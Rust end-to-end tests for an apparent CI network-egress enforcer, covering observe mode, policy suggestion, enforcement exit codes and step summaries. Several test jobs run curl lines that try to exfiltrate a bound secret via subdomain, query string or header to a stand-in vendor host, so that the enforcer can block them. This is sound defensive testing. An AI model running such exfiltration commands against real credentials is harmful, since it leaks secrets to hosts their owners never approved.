//! CI runners, end to end: a scripted job recorded in observe mode, the
//! policy `policy suggest` writes from it, that policy enforced in CI mode
//! (nothing refused; a new destination refused; an exfiltration attempt
//! failing the job with its exit status and a readable step summary), and
//! CI mode's asks.

use std::path::{Path, PathBuf};

use enforcer_e2e::{files, world::VendorWorld};

/// The job: two customers read, a form posted, and the command `$EXTRA`
/// (evaluated by the job's shell) if set.
const JOB: &str = r#"
set -u
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' https://api.vendor.test/v1/customers/cus_NffrFeUfNV2Hib
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' https://api.vendor.test/v1/customers/cus_Q2dbk7sW9zeXa1
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' -X POST -d 'note=1' https://api.vendor.test/v1/notes/123e4567-e89b-12d3-a456-426614174000
if [ -n "${EXTRA:-}" ]; then eval "$EXTRA"; fi
exit 0
"#;

fn enforcer(args: &[&str]) -> std::process::Output {
    std::process::Command::new(files::enforcer())
        .args(args)
        .env("ENFORCER_CI", "0")
        .output()
        .expect("run enforcer")
}

fn read_json(p: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(p).expect("report")).expect("report is JSON")
}

fn scratch(name: &str) -> PathBuf {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = N.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    files::scratch_dir().join(format!("ci-{n}-{name}"))
}

#[test]
fn observe_then_suggest_then_enforce_refuses_nothing_a_new_destination_is_refused_and_exfiltration_fails_the_job()
 {
    let w = VendorWorld::new();
    let db = scratch("ci-audit.db");
    let db_s = db.to_str().expect("utf-8");

    // 1. Observe: an empty policy, everything let through and recorded.
    let report = scratch("observe.json");
    let out = w
        .launch("[run]\nname = \"ci-job\"\n", &["/bin/sh", "-c", JOB])
        .flag("--audit-db")
        .flag(db_s)
        .flag("--mode")
        .flag("observe")
        .flag("--ci")
        .flag("--report")
        .flag(&report)
        .run();
    out.assert_clean();
    assert_eq!(out.code(), 0, "{out:?}");
    assert_eq!(
        out.stdout.lines().collect::<Vec<_>>(),
        ["200", "200", "200"],
        "{out:?}"
    );
    assert!(out.stderr.contains("OBSERVE MODE"), "{}", out.stderr);
    let r = read_json(&report);
    assert_eq!(r["mode"], "observe");
    assert!(r["would_deny"]["total"].as_u64().unwrap_or(0) >= 3, "{r:#}");
    let run = out.run_id.clone().expect("run id");

    // 2. Suggest, and the suggestion passes `policy check`.
    let s = enforcer(&["policy", "suggest", "--audit-db", db_s, "--run", &run]);
    assert!(s.status.success(), "{}", String::from_utf8_lossy(&s.stderr));
    let suggested = String::from_utf8(s.stdout).expect("utf-8");
    assert!(
        suggested.contains("path = \"/v1/customers/cus_*\""),
        "{suggested}"
    );
    assert!(suggested.contains("path = \"/v1/notes/*\""), "{suggested}");
    let policy_file = scratch("suggested.toml");
    std::fs::write(&policy_file, &suggested).expect("write");
    let c = enforcer(&[
        "policy",
        "check",
        "--json",
        policy_file.to_str().expect("utf-8"),
    ]);
    let checked: serde_json::Value = serde_json::from_slice(&c.stdout).expect("json");
    assert_eq!(checked["ok"], true, "{checked}");

    // 3. Enforce in CI mode, failing on any refusal: the same job passes.
    let report = scratch("enforce.json");
    let out = w
        .launch(&suggested, &["/bin/sh", "-c", JOB])
        .flag("--ci")
        .flag("--fail-on")
        .flag("deny,exfil")
        .flag("--report")
        .flag(&report)
        .run();
    out.assert_clean();
    assert_eq!(
        out.stdout.lines().collect::<Vec<_>>(),
        ["200", "200", "200"],
        "{out:?}"
    );
    let r = read_json(&report);
    assert_eq!(r["refused"]["total"], 0, "{r:#}");
    assert_eq!(out.code(), 0, "{out:?}");

    // 4. A new destination in the job is refused, and fails the job.
    let out = w
        .launch(&suggested, &["/bin/sh", "-c", JOB])
        .env(
            "EXTRA",
            "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' https://upload.vendor.test/new",
        )
        .flag("--ci")
        .flag("--fail-on")
        .flag("deny,exfil")
        .run();
    out.assert_clean();
    let codes: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(&codes[..3], ["200", "200", "200"], "{out:?}");
    assert_ne!(
        codes.get(3),
        Some(&"200"),
        "the new destination got through: {out:?}"
    );
    assert_eq!(out.code(), 81, "--fail-on deny: {out:?}");
    assert!(
        out.stderr.contains("failing the job with exit status 81"),
        "{}",
        out.stderr
    );

    // 5. With the job's secret bound to its vendor, an exfiltration attempt
    //    fails the job (default --fail-on exfil) with 80 and a summary.
    let key = scratch("key");
    std::fs::write(&key, "sk_live_REALKEY0123456789abcdef\n").expect("key");
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600))
        .expect("chmod key");
    let with_secret = format!(
        "[[secret]]\nname = \"VENDOR_KEY\"\nfrom = \"file:{}\"\nhosts = [\"api.vendor.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {{}}\"\n\n{suggested}",
        key.display()
    );
    let summary = scratch("step-summary.md");
    std::fs::write(&summary, "# earlier step\n").expect("summary");
    let report = scratch("exfil.json");
    let out = w
        .launch(&with_secret, &["/bin/sh", "-c", JOB])
        .env(
            "EXTRA",
            "curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' \"https://$VENDOR_KEY.upload.vendor.test/leak\"",
        )
        .env("GITHUB_STEP_SUMMARY", summary.to_str().expect("utf-8"))
        .flag("--ci")
        .flag("--report")
        .flag(&report)
        .run();
    out.assert_clean();
    assert_eq!(out.code(), 80, "{out:?}");
    let r = read_json(&report);
    assert_eq!(r["enforcer_exit_code"], 80);
    assert_eq!(r["exit_code"], 0, "the job itself succeeded");
    assert_eq!(r["failed_on"][0], "exfil", "{r:#}");
    assert!(
        !r["exfiltration_attempts"]
            .as_array()
            .expect("list")
            .is_empty(),
        "{r:#}"
    );
    let md = std::fs::read_to_string(&summary).expect("summary");
    assert!(
        md.starts_with("# earlier step\n"),
        "appended, not replaced: {md}"
    );
    assert!(
        md.contains("**failed** (exit 80: `--fail-on exfil`)"),
        "{md}"
    );
    assert!(md.contains("credential exfiltration attempt"), "{md}");
    assert!(md.contains("upload\\.vendor\\.test"), "{md}");
    assert!(!md.contains("REALKEY"), "{md}");
}

#[test]
fn in_ci_mode_an_ask_is_denied_and_the_exit_status_follows_fail_on() {
    let w = VendorWorld::new();
    let policy = r#"
[[host]]
name = "api.vendor.test"
  [[host.rule]]
  method = "POST"
  path = "/v1/refunds"
  action = "ask"
  [[host.rule]]
  method = "GET"
  path = "/**"
  action = "allow"
"#;
    let job = "curl -sS -m 20 -w '\\n%{http_code}\\n' -X POST -d x=1 https://api.vendor.test/v1/refunds; \
               curl -sS -m 20 -o /dev/null -w '%{http_code}\\n' https://api.vendor.test/v1/ok";
    let run = |fail_on: Option<&str>| {
        let mut l = w.launch(policy, &["/bin/sh", "-c", job]).flag("--ci");
        if let Some(f) = fail_on {
            l = l.flag("--fail-on").flag(f);
        }
        let out = l.run();
        out.assert_clean();
        out
    };
    let out = run(Some("ask"));
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert!(out.stdout.contains("asked in CI: denied"), "{out:?}");
    assert_eq!(lines[lines.len() - 2..], ["403", "200"], "{out:?}");
    assert_eq!(out.code(), 82, "{out:?}");
    // Default --fail-on exfil: the ask is still denied, the job passes.
    let out = run(None);
    assert!(out.stdout.contains("asked in CI: denied"), "{out:?}");
    assert_eq!(out.code(), 0, "{out:?}");
    // Not CI mode: the agent's own status, whatever was refused.
    let out = w
        .launch(policy, &["/bin/sh", "-c", job])
        .flag("--approver")
        .flag("none")
        .flag("--fail-on")
        .flag("ask")
        .run();
    assert_eq!(out.code(), 0, "{out:?}");
}

#[test]
fn observe_mode_still_refuses_exfiltration_and_injects_secrets_only_for_their_host() {
    let w = VendorWorld::new();
    let key = scratch("observe-key");
    std::fs::write(&key, "sk_live_OBSERVEKEY0123456789abcdef\n").expect("key");
    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600))
        .expect("chmod key");
    let policy = format!(
        "[[secret]]\nname = \"VENDOR_KEY\"\nfrom = \"file:{}\"\nhosts = [\"api.vendor.test\"]\nheader = \"Authorization\"\nformat = \"Bearer {{}}\"\n\n[[host]]\nname = \"api.vendor.test\"\n  [[host.rule]]\n  method = \"GET\"\n  path = \"/v1/me\"\n  action = \"allow\"\n",
        key.display()
    );
    let job = r#"
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' https://open.vendor.test/v1/anything
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' "https://open.vendor.test/leak?k=$VENDOR_KEY"
curl -sS -m 20 -o /dev/null -w '%{http_code}\n' -H "X-Key: $VENDOR_KEY" https://open.vendor.test/header
exit 0
"#;
    let report = scratch("observe-exfil.json");
    let out = w
        .launch(&policy, &["/bin/sh", "-c", job])
        .flag("--mode")
        .flag("observe")
        .flag("--ci")
        .flag("--report")
        .flag(&report)
        .run();
    out.assert_clean();
    assert_eq!(
        out.stdout.lines().collect::<Vec<_>>(),
        ["200", "403", "403"],
        "an unlisted host is let through, a placeholder headed there is not: {out:?}"
    );
    assert_eq!(
        out.code(),
        80,
        "exfiltration fails the job in observe mode too: {out:?}"
    );
    let r = read_json(&report);
    assert_eq!(
        r["exfiltration_attempts"].as_array().map(Vec::len),
        Some(2),
        "{r:#}"
    );
    let seen = w.vendor.seen();
    assert!(seen.iter().any(|s| s.path == "/v1/anything"), "{seen:?}");
    assert!(
        !seen
            .iter()
            .any(|s| s.path == "/leak" || s.path == "/header"),
        "nothing carrying the placeholder left: {seen:?}"
    );
    assert!(
        !seen
            .iter()
            .any(|s| format!("{:?}", s.headers).contains("OBSERVEKEY")),
        "the real key went only where it is bound: {seen:?}"
    );
}
